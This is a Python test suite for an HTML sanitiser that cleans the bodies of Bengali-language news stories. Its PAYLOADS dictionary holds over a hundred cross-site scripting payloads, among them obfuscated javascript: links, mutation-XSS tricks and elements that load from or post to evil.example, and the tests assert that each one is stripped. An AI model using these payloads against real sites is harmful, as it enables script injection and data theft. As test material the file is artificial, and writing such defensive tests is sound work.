"""Whatever is typed, pasted or forged: only what a news story needs comes out of the cleaner."""

import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from articles import html as html_module
from articles.bengali.text import normalise
from articles.html import ALLOWED, clean_body, plain_text
from tests.articles.inspector import Inspector


def assert_clean(html: str) -> None:
    found = Inspector(html)
    assert not found.wrong
    assert html == clean_body(html)  # nothing more to clean
    assert html == normalise(html) == unicodedata.normalize("NFC", html)
    assert html == html.strip()


# What a story is made of stays


@pytest.mark.parametrize(
    "body",
    [
        "",
        "<p>নদীর পাড়ে নতুন পাঠাগার।</p>".replace("ড়", "ড\u09bc"),
        "<p>এক<br>দুই</p>",
        "<h2>উপশিরোনাম</h2><p>লেখা</p><h3>আরও</h3>",
        "<p><strong>মোটা</strong> আর <em>বাঁকা</em></p>",
        "<ul><li>এক</li><li>দুই</li></ul><ol><li>তিন</li></ol>",
        "<blockquote><p>উদ্ধৃতি</p></blockquote>",
        "<p>“ক” ও ‘খ’ — গ… ৳৫০</p>",
        "<p>৫ &lt; ৬ &amp; ৭ &gt; ৬</p>",
        "<p>ক&nbsp;খ</p>",
        "<p>র\u200d্যাব ও র\u200c্যাব</p>",
        "<p>😀 👨‍👩‍👧</p>",
        '<p><a href="https://example.org/a?b=1&amp;c=2#d" rel="noopener">সূত্র</a></p>',
        '<p><a href="mailto:desk@example.org" rel="noopener">চিঠি</a></p>',
        '<p><a href="tel:+880255000000" rel="noopener">ফোন</a></p>',
        '<p><a href="/bangladesh/bcdf2345/" rel="noopener">আগের খবর</a></p>',
    ],
)
def test_clean_text_stays_as_it_is(body: str) -> None:
    assert clean_body(body) == body
    assert_clean(body)


# What a tag alone comes to, for those that are more than themselves.
ALONE = {
    "strong": "<p><strong>ক</strong></p>",
    "em": "<p><em>ক</em></p>",
    "ul": "<ul><li>ক</li></ul>",
    "ol": "<ol><li>ক</li></ol>",
    "blockquote": "<blockquote><p>ক</p></blockquote>",
    "h2": "<h2>ক</h2>",
    "h3": "<h3>ক</h3>",
}


@pytest.mark.parametrize("tag", sorted(set(ALLOWED) - {"br"}))
def test_every_allowed_tag_is_allowed_without_its_attributes(tag: str) -> None:
    body = clean_body(f'<{tag} id=a class="b" style="c" title=d lang=bn dir=rtl data-e=f onclick=g>ক</{tag}>')
    assert body == ALONE.get(tag, "<p>ক</p>")


@pytest.mark.parametrize(
    ("typed", "cleaned"),
    [
        ("<p></p>", ""),
        ("<p>ক</p><p>&nbsp;</p><p>খ</p>", "<p>ক</p><p>খ</p>"),
        ("<p> \n\t<br>&nbsp;&#160;\u00a0</p>", ""),
        ("<p><strong> </strong></p><p>ক</p>", "<p>ক</p>"),
        ("<ul><li></li><li>ক</li></ul>", "<ul><li>ক</li></ul>"),
        ("<ul><li></li></ul>", ""),
        ("<blockquote><p></p><p>ক</p></blockquote>", "<blockquote><p>ক</p></blockquote>"),
        ("<blockquote><blockquote><p></p></blockquote></blockquote>ক", "<p>ক</p>"),
        ("<h2></h2><h3> </h3>", ""),
        ("<p>ক<strong></strong></p>", "<p>ক</p>"),
    ],
)
def test_blocks_without_words_go(typed: str, cleaned: str) -> None:
    assert clean_body(typed) == cleaned


@pytest.mark.parametrize(
    ("typed", "cleaned"),
    [
        ("<p>হৃদ\u09df</p>", "<p>হৃদ\u09af\u09bc</p>"),
        ("<p>হৃদ&#x9df;</p>", "<p>হৃদ\u09af\u09bc</p>"),
        ("<p>ক\r\nখ</p>", "<p>ক খ</p>"),
        ("<p>ক&#13;খ</p>", "<p>ক খ</p>"),
        ("<p>\ufeffক\x00\x07</p>", "<p>ক</p>"),
        ("<div>ক</div>", "<p>ক</p>"),
        ("<P>ক</P>", "<p>ক</p>"),
        ("<p>ক<p>খ", "<p>ক</p><p>খ</p>"),
        ("<b><i>ক</b>খ</i>", "<p><strong><em>ক</em></strong><em>খ</em></p>"),
        ('<a href="http://example.org" target="_blank" onclick="x()" rel="opener">ক</a>',
         '<p><a href="http://example.org" rel="noopener">ক</a></p>'),
    ],
)  # fmt: skip
def test_what_is_spelled_otherwise_is_stored_in_one_spelling(typed: str, cleaned: str) -> None:
    assert clean_body(typed) == cleaned
    assert_clean(cleaned)


# What must not come through

PAYLOADS = {
    # handlers
    "script": "<script>alert(1)</script>",
    "script, cased": "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "script, spaced": "<script\t\n/src=//evil.example/x.js></script\n>",
    "script, half open": "<script>alert(1)",
    "script, nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, doubled bracket": "<<script>alert(1)//<</script>",
    "script in a paragraph's attribute": '<p title="<script>alert(1)</script>">ক</p>',
    "onclick": "<p onclick=alert(1)>ক</p>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror, slashes": "<img/src=x/onerror=alert(1)>",
    "onerror, unclosed": "<img src=x onerror=alert(1)//",
    "onload of body": "<body onload=alert(1)>",
    "onfocus": "<a href=# onfocus=alert(1) autofocus tabindex=1>ক</a>",
    "ontoggle": "<details open ontoggle=alert(1)>ক</details>",
    "onstart": "<marquee onstart=alert(1)>ক</marquee>",
    "onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "onpointerrawupdate": "<b onpointerrawupdate=alert(1)>ক</b>",
    "a handler after a quote": '<p title=""onmouseover=alert(1) ">ক</p>',
    "a handler after backticks": "<p title=`x`onmouseover=alert(1)>ক</p>",
    "a handler on br": "<br onclick=alert(1)>",
    "formaction": "<button formaction=javascript:alert(1)>ক</button>",
    # addresses
    "javascript": '<a href="javascript:alert(1)">ক</a>',
    "javascript, cased": '<a href="JaVaScRiPt:alert(1)">ক</a>',
    "javascript, tabs": '<a href="java\tscript:alert(1)">ক</a>',
    "javascript, line breaks": '<a href="java\nscr\ript:alert(1)">ক</a>',
    "javascript, entities": '<a href="&#106;&#97;vascript&colon;alert(1)">ক</a>',
    "javascript, entities without semicolons": '<a href="&#0000106&#0000097vascript:alert(1)">ক</a>',
    "javascript, tab entity": '<a href="java&Tab;script:alert(1)">ক</a>',
    "javascript, newline entity": '<a href="java&NewLine;script&colon;alert(1)">ক</a>',
    "javascript, leading control character": '<a href="&#1;javascript:alert(1)">ক</a>',
    "javascript, leading space": '<a href=" \u00a0javascript:alert(1)">ক</a>',
    "javascript, a control character within": '<a href="java&#1;script:alert(1)">ক</a>',
    "javascript, a C1 control within": '<a href="java&#x81;script:alert(1)">ক</a>',
    "javascript, delete within": '<a href="java&#127;script:alert(1)">ক</a>',
    "javascript, a byte order mark within": '<a href="java&#xFEFF;script:alert(1)">ক</a>',
    "javascript, a byte order mark in its colon's place": '<a href="javascript&#xFEFF;:alert(1)">ক</a>',
    "javascript, a null within": '<a href="java\x00script:alert(1)">ক</a>',
    "javascript, a null entity within": '<a href="java&#0;script:alert(1)">ক</a>',
    "javascript, a vertical tab before": '<a href="&#11;javascript:alert(1)">ক</a>',
    "javascript, a line separator within": '<a href="java&#x2028;script:alert(1)">ক</a>',
    "javascript, full-width": '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">ক</a>',
    "javascript, escaped slashes": '<a href="javascript://example.org/%0aalert(1)">ক</a>',
    "javascript, in view-source": '<a href="view-source:javascript:alert(1)">ক</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">ক</a>',
    "vbscript, cased": '<a href="VbScRiPt&colon;msgbox(1)">ক</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">ক</a>',
    "data, base64": '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ক</a>',
    "data, control character": '<a href="da&#2;ta:text/html,x">ক</a>',
    "blob": '<a href="blob:https://example.org/x">ক</a>',
    "file": '<a href="file:///etc/passwd">ক</a>',
    "a ping": '<a href="/" ping="https://evil.example/">ক</a>',
    "a download": '<a href="/" download="x.exe">ক</a>',
    # other worlds
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script, entity": "<svg><script>&#97;lert(1)</script></svg>",
    "svg onload": "<svg/onload=alert(1)>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"></use></svg>',
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text>ক</text></a></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "math link": '<math><mtext><a xlink:href="javascript:alert(1)">ক</a></mtext></math>',
    "math action": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">ক</maction></math>',
    "math and style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math, mglyph and noscript": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>"
    ),
    "svg, style and a title": "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
    "svg and CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    # mutation
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "style": "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "template": "<template><script>alert(1)</script></template>",
    "title": "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "noframes": "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "select": "<select><template><img src=x onerror=alert(1)></template></select>",
    "table": "<table><tr><td><p onclick=alert(1)>ক</table>",
    "a paragraph that fuses with its text": "<p>&#x338; onmouseover=alert(1) x=</p>",
    "a closing tag that fuses": "<p>ক</p>&#x338; onmouseover=alert(1)<b>খ</b>",
    "fusing behind a byte order mark": "<p>&#xFEFF;&#x338; onmouseover=alert(1) x=</p>",
    "fusing behind another mark": "<p>&#x323;&#x338; onmouseover=alert(1) x=</p>",
    "fusing in a chain": "<b>&#x338;<i>&#x338;<p>&#x338; onclick=x </p>&#x338;</i>&#x338;</b>&#x338;" * 5,
    "a less-than sign that is one": "<p>\u226e script>alert(1)\u226e/script></p>",
    # odd syntax
    "a comment": "<!-- <script>alert(1)</script> -->",
    "a comment, IE": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "a comment, closed early": "<!--><img src=x onerror=alert(1)>-->",
    "a comment, closed oddly": "<!--x--!><img src=x onerror=alert(1)>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a processing instruction": '<?xml version="1.0"?><?php system("id") ?><script>alert(1)</script>',
    "a doctype": "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "nulls": "<scr\x00ipt>alert(1)</scr\x00ipt><p on\x00click=alert(1)>ক</p>",
    "a tag never closed": "<p <b <i onclick=alert(1)",
    "an attribute never closed": '<p title="ক onclick=alert(1)>খ',
    "very many attributes": "<p " + " ".join(f"a{index}=1" for index in range(2000)) + " onclick=alert(1)>ক</p>",
    # what loads or sends
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "iframe javascript": "<iframe src=javascript:alert(1)>",
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": "<applet code=x.class></applet>",
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link import": '<link rel="import" href="https://evil.example/x.html">',
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute": '<p style="background:url(https://evil.example/)">ক</p>',
    "form": '<form action="https://evil.example/"><input name=password><button>ক</button></form>',
    "image": '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x">',
    "picture": "<picture><source srcset=https://evil.example/x><img></picture>",
    "video": '<video src="https://evil.example/x" onerror=alert(1)><source onerror=alert(1)></video>',
    "audio": "<audio src=x onerror=alert(1) controls>",
    "dialog": "<dialog open>ক</dialog>",
    "an element of somebody's own": "<x-evil onclick=alert(1) is=x>ক</x-evil>",
    "slot and part": '<p slot=x part=y is="evil">ক</p>',
    "isindex": '<isindex type=image src=x onerror=alert(1)>',
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "portal": "<portal src=https://evil.example/>",
}  # fmt: skip


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_attack_comes_through(kind: str) -> None:
    payload = PAYLOADS[kind]
    for around in (
        "{}",
        "<p>ক {} খ</p>",
        "<ul><li>{}</li></ul>",
        "<b><a href='https://example.org/'>{}",
        "<table>{}",
    ):
        assert_clean(clean_body(around.format(payload)))


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_attack_comes_through_twice_escaped_or_cut(kind: str) -> None:
    payload = PAYLOADS[kind]
    escaped = payload.replace("&", "&amp;").replace("<", "&lt;")
    assert_clean(clean_body(escaped))
    for length in range(0, min(len(payload), 120), 3):
        assert_clean(clean_body(payload[:length]))


def test_the_text_around_an_attack_is_kept() -> None:
    assert plain_text(clean_body("<p>আগে<script>alert(1)</script> পরে</p>")) == "আগে পরে"


def test_a_link_that_is_refused_keeps_its_words() -> None:
    assert clean_body('<p><a href="javascript:alert(1)">ক</a></p>') == "<p>ক</p>"


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("<p>এক</p>\n\n<p>দুই</p>\n", "<p>এক</p><p>দুই</p>"),
        ("<ul>\n\t<li>এক</li>\n\t<li>দুই\n\t<ul>\n\t\t<li>তিন</li>\n\t</ul>\n\t</li>\n</ul>",
         "<ul><li>এক</li><li>দুই<ul><li>তিন</li></ul></li></ul>"),
        ("<p>এক<br />\nদুই<br></p>", "<p>এক<br>দুই</p>"),
        ("<p><b>মোটা</b> <i>বাঁকা</i></p>", "<p><strong>মোটা</strong> <em>বাঁকা</em></p>"),
        ("খোলা <b>লেখা</b><h2>শিরোনাম</h2>আবার", "<p>খোলা <strong>লেখা</strong></p><h2>শিরোনাম</h2><p>আবার</p>"),
        ("<blockquote>উদ্ধৃতি</blockquote>", "<blockquote><p>উদ্ধৃতি</p></blockquote>"),
        ("<blockquote>\n<p>উদ্ধৃতি</p>\n</blockquote>", "<blockquote><p>উদ্ধৃতি</p></blockquote>"),
        ('<p><a name="x">কোথাও না</a> <a href="/x/">কোথাও</a></p>',
         '<p>কোথাও না <a href="/x/" rel="noopener">কোথাও</a></p>'),
        ("<p>এক</p><hr><p>দুই</p>", "<p>এক</p><p>দুই</p>"),
        ("<p>এক&nbsp;দুই</p>", "<p>এক&nbsp;দুই</p>"),
    ],
)  # fmt: skip
def test_the_same_text_is_stored_in_one_form_however_an_editor_writes_it(typed: str, stored: str) -> None:
    assert clean_body(typed) == stored


def test_text_that_never_comes_to_rest_loses_its_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(html_module, "_ROUNDS", 1)
    cleaned = clean_body('<p onclick="x">ক &lt;b&gt;</p><p>খ&nbsp;</p>')
    monkeypatch.undo()
    assert cleaned == "<p>ক &lt;b&gt;</p><p>খ</p>"
    assert_clean(cleaned)


# Anything at all

FRAGMENTS = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<br>",
        "<b>",
        "</b>",
        "<a href='",
        "'>",
        "javascript:",
        "<ul><li>",
        "&#x338;",
        "\u0338",
        "&#1;",
    ]
    + [
        "&nbsp;",
        "&#xFEFF;",
        "<script>",
        "</script>",
        "<svg>",
        "<style>",
        "<math>",
        "<!--",
        "-->",
        " onclick=x ",
        ">",
    ]
    + [
        "<",
        "&lt;",
        "&amp;lt;",
        '"',
        "=",
        "/",
        "\x00",
        "\r",
        "য়",
        "\u09df",
        "\u09cd",
        "\u200d",
        "\ud800",
        "\u226f",
    ]
)
ANY = st.one_of(st.text(), st.lists(st.one_of(FRAGMENTS, st.text(max_size=3)), max_size=30).map("".join))
many = settings(
    max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)


@many
@given(ANY)
def test_any_text_comes_out_clean(text: str) -> None:
    assert_clean(clean_body(text))


@many
@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="<&\ufeff")))
def test_any_words_without_markup_are_kept(words: str) -> None:
    assert plain_text(clean_body(words)) == normalise(words).strip() or "\n\n" in normalise(words)


@many
@given(ANY)
def test_the_words_of_any_clean_text_hold_no_markup(text: str) -> None:
    cleaned = clean_body(text)
    words = plain_text(cleaned)
    assert words == words.strip()
    assert "\n\n" not in words
    assert "".join(words.split()) == "".join(Inspector(cleaned).text.split())


# The words alone


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("", ""),
        ("<p>এক</p><p>দুই</p>", "এক\nদুই"),
        ("<p>এক<br>দুই</p>", "এক\nদুই"),
        ("<h2>শিরোনাম</h2><ul><li>এক</li><li>দুই</li></ul><p>শেষ</p>", "শিরোনাম\nএক\nদুই\nশেষ"),
        ("<blockquote><p>উদ্ধৃতি</p></blockquote><p>পরে</p>", "উদ্ধৃতি\nপরে"),
        ("<p>এক <strong>দুই</strong> তিন</p>", "এক দুই তিন"),
        ("<p>৫ &lt; ৬ &amp; ৭</p>", "৫ < ৬ & ৭"),
        ("<p>&amp;lt;b&amp;gt;</p>", "&lt;b&gt;"),
        ("<hr>", ""),
        ('<p><a href="https://example.org/" rel="noopener">সূত্র</a></p>', "সূত্র"),
    ],
)
def test_plain_text_is_the_words_in_their_lines(body: str, words: str) -> None:
    assert plain_text(body) == words
